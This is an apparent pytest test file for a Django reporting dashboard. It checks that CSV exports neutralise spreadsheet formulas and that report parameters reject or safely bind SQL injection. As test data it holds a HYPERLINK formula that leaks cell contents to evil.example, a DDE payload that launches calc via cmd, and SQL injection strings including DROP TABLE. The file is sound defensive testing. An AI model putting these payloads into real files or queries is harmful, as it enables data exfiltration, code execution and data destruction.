"""Report data is hostile too: formulas in exported cells and SQL in report parameters."""

import csv
import html
import io
import re
import urllib.request
from dataclasses import replace
from io import StringIO

import pytest
import sqlglot
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from dashboard.engines import engine_run
from dashboard.reports import report_query, report_statement
from ordersite.aws.athena import athena_literal
from pipeline_admin.models import Upload
from pipeline_admin.runtime import runtime_drain
from pipeline_admin.services import uploads_sync

# What a spreadsheet runs as a formula (OWASP CSV injection), and what it reads as a plain number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")

FORMULAS = {
    "F-1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "F-2": "+SUM(1;2)",
    "F-3": "-2+3+cmd|' /C calc'!A0",
    "F-4": "@SUM(A1:A9)",
    "F-5": "\t=1+1",  # the Lambda strips the tab; the formula behind it is what the export must catch
    "F-6": "Acme Ltd",
}


def _orders_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["OrderID", "Customer", "Amount", "Status", "OrderDate"])
    for i, (order_id, customer) in enumerate(FORMULAS.items(), start=1):
        writer.writerow([order_id, customer, f"{i * 10}.00", "confirmed", f"2025-05-0{i}"])
    return out.getvalue().encode()


@pytest.fixture
def hostile_data(client, twin, uploader, analyst):
    """Formula-like customer names uploaded by an Uploader, processed by the Lambda and crawled."""
    client.force_login(uploader)
    upload = SimpleUploadedFile("formulas.csv", _orders_csv())
    response = client.post(reverse("pipeline_admin:upload"), {"files": [upload], "as_of": "2025-06-01"})
    assert response.status_code == 302
    runtime_drain()
    call_command("crawl", "--wait", stdout=StringIO())
    client.force_login(analyst)
    return client


def _computed(client, url: str, params: dict, capture) -> dict:
    with capture(execute=True):
        client.get(url, params)
    return client.get(url, params).json()


@pytest.mark.parametrize("slug", ["sales-by-customer", "top-orders"])
def test_a_csv_export_neutralises_formulas_that_came_in_with_uploaded_data(
    slug, hostile_data, django_capture_on_commit_callbacks
):
    client, params = hostile_data, {"limit": "20"}
    body = _computed(client, reverse("report_api", args=[slug]), params, django_capture_on_commit_callbacks)
    customers = {row[body["columns"].index("customer")] for row in body["rows"]}
    assert customers == {v.strip() for v in FORMULAS.values()}  # the stored data holds the formulas as sent

    response = client.get(reverse("dashboard:export", args=[slug]), params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    exported = list(csv.reader(io.StringIO(response.content.decode())))
    column = exported[0].index("customer")
    assert {row[column] for row in exported[1:]} == {
        "'" + v.strip() if v.strip().startswith(FORMULA_START) else v for v in FORMULAS.values()
    }
    for row in exported:  # nothing in the file starts a formula, except plain numbers like -12.50
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell


INJECTIONS = {
    "customer": "x' OR '1'='1",
    "start_date": "2025-01-01'; DROP TABLE orders; --",
    "end_date": "today' OR 1=1 --",
    "statuses": "confirmed') OR ('1'='1",
    "limit": "10; DELETE FROM orders",
    "month": "2025-05' UNION SELECT * FROM orders --",
}


@pytest.mark.parametrize("param", sorted(INJECTIONS))
def test_report_parameters_carrying_sql_are_refused_by_validation(param, client, twin, analyst):
    client.force_login(analyst)
    slug = "top-orders"  # it takes every kind of parameter: dates, statuses, text, month, limit
    for url in (reverse("report_api", args=[slug]), reverse("dashboard:export", args=[slug])):
        response = client.get(url, {param: INJECTIONS[param]})
        assert response.status_code == 400, (url, param)
    response = client.get(reverse("dashboard:card", args=[slug]), {param: INJECTIONS[param]})
    assert response.status_code == 400


def _run(slug: str, **overrides) -> dict:
    """The engine path with bound parameters, as a worker runs it, but skipping validation."""
    query = replace(report_query(slug, {}), **overrides)
    result = engine_run(query, data_version=1)
    return [dict(zip(result.columns, row)) for row in result.rows]


def test_sql_in_a_parameter_that_got_past_validation_is_only_ever_a_value(hostile_data):
    before = _run("kpis")
    assert before[0]["orders"] == len(FORMULAS)
    for hostile in ("x' OR '1'='1", "x'; DROP VIEW orders; --", "Acme Ltd' --"):
        assert _run("kpis", customer=hostile)[0]["orders"] == 0, hostile
    assert _run("sales-by-customer", customer="' OR customer <> '") == []
    assert _run("kpis", statuses=("confirmed') OR ('1'='1",))[0]["orders"] == 0
    assert _run("kpis", dimensions=(("region", "x' OR '1'='1"),))[0]["orders"] == 0
    assert _run("kpis", customer="Acme Ltd")[0]["orders"] == 1  # the same path does filter on a real value
    assert _run("kpis") == before  # the table is still there, with the same rows


def test_athena_receives_a_parameter_carrying_sql_as_one_string_literal():
    """Athena substitutes execution parameters into the statement: the literal must hold the whole value."""
    for hostile in ("x' OR '1'='1", "x\\' OR 1=1 --", "x'); DROP TABLE orders; --", "'''"):
        sql, params = report_statement(replace(report_query("kpis", {}), customer=hostile), data_version=1)
        parts, literals = sql.split("?"), [athena_literal(p) for p in params]
        assert len(parts) == len(literals) + 1
        text = parts[0] + "".join(literal + part for literal, part in zip(literals, parts[1:]))
        statement = sqlglot.parse_one(text, read="athena")
        customer_values = {
            eq.expression.this
            for eq in statement.find_all(sqlglot.exp.EQ)
            if isinstance(eq.this, sqlglot.exp.Column) and eq.this.name == "customer"
        }
        assert customer_values == {hostile}, hostile


REJECTED = [  # order_id, amount, order_date, customer: each row is rejected for its amount or date
    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "abc", "2025-05-01", "Acme"],
    ["R2", "=1+1", "2025-05-02", "@SUM(A1:A9)"],
    ["R3", "-12.50", "someday", "-2+3+cmd|' /C calc'!A0"],
    ["R4", "+SUM(1;2)", "2025-05-04", "\tTabbed"],
]


def test_the_download_of_all_rejected_rows_neutralises_formulas_and_keeps_negative_numbers(
    client, twin, uploader, pipeline_admin
):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows([["order_id", "amount", "order_date", "customer"], *REJECTED, ["R5", "10.00", "2025-05-05", "Ok"]])
    client.force_login(uploader)
    upload = SimpleUploadedFile("rejects.csv", out.getvalue().encode())
    client.post(reverse("pipeline_admin:upload"), {"files": [upload], "as_of": "2025-06-01"})
    runtime_drain()
    uploads_sync()
    client.force_login(pipeline_admin)
    item = Upload.objects.get()
    page = client.get(reverse("pipeline_admin:upload_detail", args=[item.pk])).content.decode()
    link = html.unescape(re.search(r'id="rejected-download" href="([^"]+)"', page).group(1))
    with urllib.request.urlopen(link, timeout=10) as response:
        rows = list(csv.reader(io.StringIO(response.read().decode())))

    def inert(cell: str) -> str:
        return "'" + cell if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell) else cell

    # Each rejected row: line, reason code, reason, then the raw cells.
    assert [row[3:] for row in rows[1:]] == [[inert(cell) for cell in row] for row in REJECTED]
    assert rows[1][3].startswith("'=HYPERLINK(") and rows[3][4] == "-12.50"  # negative numbers stay numbers
